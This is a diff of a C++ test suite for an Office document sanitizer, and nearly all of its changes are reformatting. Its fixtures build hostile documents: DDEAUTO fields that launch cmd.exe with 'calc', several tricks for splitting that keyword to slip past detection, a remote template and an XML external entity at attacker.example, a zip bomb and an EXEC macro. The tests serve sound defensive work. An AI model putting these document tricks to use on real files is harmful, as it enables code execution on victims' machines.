@@ -393,9 +393,11 @@ Files hostileDocm() {
       "<w:p><w:hyperlink r:id=\"rId3\">" + run_("good link") + "</w:hyperlink>"
       "<w:hyperlink r:id=\"rId4\">" + run_("bad link") + "</w:hyperlink></w:p>"
       // DDEAUTO split over three runs, with a cached result.
-      "<w:p>" + fldChar("begin") + instr(" DD") + instr("EAUTO c:\\\\windows\\\\system32\\\\cmd.exe") +
+      "<w:p>" + fldChar("begin") + instr(" DD") +
+      instr("EAUTO c:\\\\windows\\\\system32\\\\cmd.exe") +
       instr(" \"/k calc\" ") + fldChar("separate") + run_("RESULT") + fldChar("end") + "</w:p>"
-      "<w:p><w:fldSimple w:instr=\" DDE excel &quot;x&quot; \">" + run_("SIMPLE") + "</w:fldSimple></w:p>"
+      "<w:p><w:fldSimple w:instr=\" DDE excel &quot;x&quot; \">" + run_("SIMPLE") +
+      "</w:fldSimple></w:p>"
       "<w:p><w:fldSimple w:instr=\" PAGE \">" + run_("7") + "</w:fldSimple></w:p>"
       "<w:p><w:r><w:drawing><a:graphic><a:graphicData><a:blip r:embed=\"rId5\"/>"
       "</a:graphicData></a:graphic></w:drawing></w:r></w:p>"
@@ -416,7 +418,8 @@ Files hostileDocm() {
              {"rId5", r + "image", "media/image1.png"},
              {"rId6", r + "aFChunk", "afchunk.mht"}})},
       {"word/settings.xml", std::string(kDecl) + "<w:settings xmlns:w=\"" + kW +
-                                "\" xmlns:r=\"" + std::string(kR).substr(0, std::string(kR).size() - 1) +
+                                "\" xmlns:r=\"" +
+                                std::string(kR).substr(0, std::string(kR).size() - 1) +
                                 "\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>"},
       {"word/_rels/settings.xml.rels",
        rels({{"rId1", r + "attachedTemplate", "http://attacker.example/t.dotm", "x"}})},
@@ -434,7 +437,8 @@ TEST_SUITE("ooxml") {
     REQUIRE(mugai::core::sniff(input, Limits{}) == "docm");
     const PartOutput o = run(input, "docm", "report.docm");
     REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
-    CHECK(o.contentType == "application/vnd.openxmlformats-officedocument.wordprocessingml.document");
+    CHECK(o.contentType ==
+          "application/vnd.openxmlformats-officedocument.wordprocessingml.document");
     CHECK(o.filename == "report.docx");
     CHECK(mugai::core::sniff(o.bytes, Limits{}) == "docx");
 
@@ -507,7 +511,8 @@ TEST_SUITE("ooxml") {
         {"external entity", "<!DOCTYPE w:document SYSTEM \"http://attacker.example/x.dtd\">"},
     };
     for (const Row& row : rows) {
-      CAPTURE(row.name);
+      const std::string rowName = row.name;
+      CAPTURE(rowName);
       Files files = hostileDocm();
       for (auto& [n, b] : files) {
         if (n == "word/document.xml") b.insert(b.find("<w:document"), row.doctype);
@@ -606,7 +611,8 @@ TEST_SUITE("ooxml") {
         {"ratio bomb", {"word/pad.xml", std::string(4u << 20, ' ')}, "ooxml.bomb"},
     };
     for (const Row& row : rows) {
-      CAPTURE(row.name);
+      const std::string rowName = row.name;
+      CAPTURE(rowName);
       Files files = hostileDocm();
       files.push_back(row.extra);
       const PartOutput o = run(makeZip(files), "docm", "a.docm");
@@ -814,7 +820,8 @@ TEST_SUITE("ooxml") {
     const std::string r = kR;
     const std::string rns = r.substr(0, r.size() - 1);
     for (const Row& row : rows) {
-      CAPTURE(row.token);
+      const std::string rowToken = row.token;
+      CAPTURE(rowToken);
       const char family = row.outType[0];  // d, s or p
       std::string mainType = row.mainType;
       if (mainType.rfind("application/", 0) != 0) {
@@ -850,7 +857,8 @@ TEST_SUITE("ooxml") {
                  {"ppt/slides/slide1.xml",
                   std::string(kDecl) + "<p:sld " + ns + "><p:cSld><p:spTree/></p:cSld></p:sld>"}};
       }
-      files.insert(files.begin(), {"_rels/.rels", rels({{"rId1", r + "officeDocument", mainPart}})});
+      files.insert(files.begin(),
+                   {"_rels/.rels", rels({{"rId1", r + "officeDocument", mainPart}})});
       files.insert(files.begin(), {"[Content_Types].xml", contentTypes(mainType, mainPart)});
       const std::string input = makeZip(files);
       CHECK(mugai::core::sniff(input, Limits{}) == row.token);
@@ -933,7 +941,8 @@ TEST_SUITE("ooxml") {
     const Files out = readZip(o.bytes);
     const std::vector<RelRow> outRels = relsOf(out);
     for (const Row& row : rows) {
-      CAPTURE(row.target);
+      const std::string rowTarget = row.target;
+      CAPTURE(rowTarget);
       const bool present = std::any_of(outRels.begin(), outRels.end(), [&](const RelRow& x) {
         return x.target == row.target && x.mode == "External";
       });
@@ -962,10 +971,12 @@ TEST_SUITE("ooxml") {
     const std::string sep = fldChar("separate");
     const std::string end = fldChar("end");
     const std::vector<Row> rows = {
-        {"one run", begin + instr(" DDEAUTO c:\\\\cmd.exe \"/c calc\" ") + sep + run_("RESULT") + end},
+        {"one run",
+         begin + instr(" DDEAUTO c:\\\\cmd.exe \"/c calc\" ") + sep + run_("RESULT") + end},
         {"lower case", begin + instr(" ddeauto c:\\\\cmd.exe x ") + sep + run_("RESULT") + end},
         {"split in the keyword",
-         begin + instr(" D") + instr("D") + instr("E c:\\\\cmd.exe x") + sep + run_("RESULT") + end},
+         begin + instr(" D") + instr("D") + instr("E c:\\\\cmd.exe x") + sep + run_("RESULT") +
+             end},
         {"split across paragraphs", begin + instr(" DDE") + "</w:p><w:p>" +
                                         instr("AUTO c:\\\\cmd.exe x") + sep + run_("RESULT") + end},
         {"nested field builds the keyword",
@@ -985,7 +996,8 @@ TEST_SUITE("ooxml") {
     };
     const std::string r = kR;
     for (const Row& row : rows) {
-      CAPTURE(row.name);
+      const std::string rowName = row.name;
+      CAPTURE(rowName);
       const Files files = {
           {"[Content_Types].xml",
            contentTypes("application/vnd.openxmlformats-officedocument.wordprocessingml."
@@ -1037,7 +1049,8 @@ TEST_SUITE("ooxml") {
     const std::string ns = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";
     const std::string rns = r.substr(0, r.size() - 1);
     for (const Row& row : rows) {
-      CAPTURE(row.name);
+      const std::string rowName = row.name;
+      CAPTURE(rowName);
       const Files files = {
           {"[Content_Types].xml",
            contentTypes("application/vnd.ms-excel.sheet.macroEnabled.main+xml", "xl/workbook.xml",
@@ -1072,7 +1085,9 @@ TEST_SUITE("ooxml") {
       REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
       const Files out = readZip(o.bytes);
       CHECK_FALSE(hasEntryContaining(out, "hostile"));
-      for (const auto& [name, data] : out) CHECK_MESSAGE(data.find("EXEC(") == std::string::npos, name);
+      for (const auto& [name, data] : out) {
+        CHECK_MESSAGE(data.find("EXEC(") == std::string::npos, name);
+      }
       const std::string* wb = entry(out, "xl/workbook.xml");
       REQUIRE(wb != nullptr);
       CHECK(countElements(*wb, "sheet") == 1);
@@ -1150,7 +1165,8 @@ TEST_SUITE("ooxml") {
   TEST_CASE("ooxml: a binary workbook (.xlsb) is not passed through") {
     Files files = {
         {"[Content_Types].xml",
-         contentTypes("application/vnd.ms-excel.sheet.binary.macroEnabled.main", "xl/workbook.bin")},
+         contentTypes("application/vnd.ms-excel.sheet.binary.macroEnabled.main",
+                      "xl/workbook.bin")},
         {"_rels/.rels", rels({{"rId1", std::string(kR) + "officeDocument", "xl/workbook.bin"}})},
         {"xl/workbook.bin", "binary"},
     };
@@ -1280,7 +1296,8 @@ TEST_SUITE("third-party") {
         CAPTURE(token);
         if (!OoxmlSanitizer{}.handles(token, "")) continue;
         const PartOutput o = run(bytes, token, de.path().filename().string());
-        const bool benign = std::string_view(sub) == "mammoth" || std::string_view(sub) == "python-docx";
+        const bool benign =
+            std::string_view(sub) == "mammoth" || std::string_view(sub) == "python-docx";
         if (o.disposition != Disposition::Rebuilt) {
           MESSAGE("removed: " << o.reason);
           CHECK_FALSE(benign);
